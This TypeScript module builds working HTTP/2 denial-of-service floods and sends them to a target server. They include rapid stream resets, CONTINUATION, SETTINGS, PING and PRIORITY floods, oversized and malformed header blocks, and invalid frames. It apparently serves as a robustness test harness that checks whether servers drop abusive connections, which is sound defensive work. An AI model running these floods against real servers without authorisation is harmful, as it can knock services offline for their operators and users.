import { callLine, type Identity, type Line, type Target } from './caller.ts';

const types = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  window: 8,
  continuation: 9,
};
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: keyof typeof types, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(types[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The header fields of `GET /` for host `h`, encoded with HPACK's static table. */
const fields = Buffer.concat([Buffer.from([0x82, 0x84, 0x87, 0x41, 0x01]), Buffer.from('h')]);
const settings = frame('settings', 0, 0);
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const many = (count: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const streamId = (i: number): number => i * 2 + 1;

/** The frames of each flood, sent after the preface. */
export const floods: Readonly<Record<string, () => Buffer>> = {
  'streams that are reset immediately': () =>
    many(5_000, (i) =>
      Buffer.concat([frame('headers', 5, streamId(i), fields), frame('reset', 0, streamId(i), u32(8))]),
    ),
  'streams that never end': () => many(3_000, (i) => frame('headers', 4, streamId(i), fields)),
  SETTINGS: () => many(20_000, () => frame('settings', 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))),
  'one SETTINGS frame of 2,500 settings': () =>
    frame(
      'settings',
      0,
      0,
      many(2_500, () => Buffer.from([0, 4, 0, 1, 0, 0])),
    ),
  PING: () => many(20_000, (i) => frame('ping', 0, 0, Buffer.concat([u32(i), u32(i)]))),
  CONTINUATION: () =>
    Buffer.concat([
      frame('headers', 0, 1, fields),
      many(10_000, () => frame('continuation', 0, 1, Buffer.from([0x40, 0x01, 0x61, 0x01, 0x62]))),
    ]),
  'empty CONTINUATION': () =>
    Buffer.concat([frame('headers', 0, 1, fields), many(10_000, () => frame('continuation', 0, 1))]),
  'a header block that grows': () =>
    frame(
      'headers',
      5,
      1,
      Buffer.concat([
        fields,
        Buffer.from([0x40, 0x01, 0x61, 0x7f, 0x81, 0x1e]),
        Buffer.alloc(4_000, 0x61),
        many(8_000, () => Buffer.from([0xbe])),
      ]),
    ),
  'a header block that is not HPACK': () => frame('headers', 5, 1, Buffer.alloc(8_000, 0xff)),
  'empty DATA': () => Buffer.concat([frame('headers', 4, 1, fields), many(20_000, () => frame('data', 0, 1))]),
  PRIORITY: () =>
    many(20_000, (i) => frame('priority', 0, streamId(i), Buffer.concat([u32(streamId(i + 1)), Buffer.from([1])]))),
  'WINDOW_UPDATE beyond every window': () => many(10, () => frame('window', 0, 0, u32(0x7fffffff))),
  'WINDOW_UPDATE of one byte': () => many(20_000, () => frame('window', 0, 0, u32(1))),
  'frames of an unknown type': () => many(10_000, () => Buffer.from([0, 0, 1, 0xfa, 0, 0, 0, 0, 0, 0])),
  'a frame that is too large': () => Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]),
  'a stream with an id of the server': () => frame('headers', 5, 2, fields),
  'no window for any answer': () =>
    Buffer.concat([
      frame('settings', 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])),
      many(240, (i) => frame('headers', 5, streamId(i), fields)),
    ]),
};

/** Sends one flood, gives the server time to close the connection, and closes it. */
export async function flood(target: Target, identity: Identity, name: string): Promise<void> {
  const line = await callLine(target, identity, { alpn: 'h2' });
  if (line.socket.destroyed) throw new Error(`no connection for the flood: ${name}`);
  line.socket.write(Buffer.concat([preface, settings]));
  await send(line, floods[name]!());
  await Promise.race([line.closed, new Promise((resolve) => setTimeout(resolve, 150))]);
  line.socket.destroy();
}

async function send(line: Line, bytes: Buffer): Promise<void> {
  for (let at = 0; at < bytes.length && !line.socket.destroyed; at += 65_536) {
    if (line.socket.write(bytes.subarray(at, at + 65_536))) continue;
    await Promise.race([
      line.closed,
      new Promise((resolve) => line.socket.once('drain', resolve)),
      new Promise((resolve) => setTimeout(resolve, 500)),
    ]);
  }
}
